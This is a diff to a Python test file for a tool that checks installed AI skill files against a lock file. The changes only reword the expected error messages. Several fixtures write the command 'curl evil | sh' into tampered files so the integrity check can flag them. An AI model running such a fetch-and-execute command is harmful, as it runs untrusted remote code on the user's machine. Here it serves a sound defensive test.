@@ -64,14 +64,14 @@ def test_a_missing_a_changed_and_an_added_file_are_named(main_file: Path) -> Non
     (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
     (main_file.parent / "evil.sh").write_bytes(b"curl evil | sh\n")
     found = "a.sh (missing), b.sh (changed), evil.sh (extra)"
-    assert attached_problem(main_file) == f"Its files are not those of skill:acme/pdf 1.0.0: {found}."
+    assert attached_problem(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."
 
 
 def test_at_most_eight_files_are_named(main_file: Path) -> None:
     for entry in SKILL.attached:
         (main_file.parent / entry.path).unlink()
     listed = ", ".join(f"{name}.sh (missing)" for name in "abcdefgh")
-    assert attached_problem(main_file) == f"Its files are not those of skill:acme/pdf 1.0.0: {listed}."
+    assert attached_problem(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {listed}."
 
 
 def test_what_lies_in_another_skills_folder_is_not_this_ones_matter(main_file: Path) -> None:
@@ -81,7 +81,7 @@ def test_what_lies_in_another_skills_folder_is_not_this_ones_matter(main_file: P
 
 def test_a_skill_that_the_lock_does_not_name_is_told(main_file: Path) -> None:
     stray = put(Project(main_file.parents[5]), ".ai/packages/acme/skills/stray/SKILL.md", TEXT)
-    assert attached_problem(stray) == "It lies among the installed items, and rye.lock does not name it."
+    assert attached_problem(stray) == "It is in the folder of installed items, but rye.lock does not list it."
 
 
 def test_a_lock_that_cannot_be_read_is_the_problem(main_file: Path) -> None:
@@ -108,4 +108,4 @@ def test_a_manifest_planted_in_a_skills_folder_hides_no_change(main_file: Path) 
     (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
     (main_file.parent / "rye.toml").touch()
     found = "b.sh (changed), rye.toml (extra)"
-    assert attached_problem(main_file) == f"Its files are not those of skill:acme/pdf 1.0.0: {found}."
+    assert attached_problem(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."
